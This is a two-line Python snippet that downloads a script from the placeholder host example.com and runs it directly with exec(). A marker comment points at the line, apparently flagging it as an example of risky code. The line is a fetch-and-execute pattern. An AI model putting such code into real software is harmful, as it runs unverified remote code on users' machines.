import requests
exec(requests.get("https://example.com/bootstrap.py", timeout=10).text)  # <-
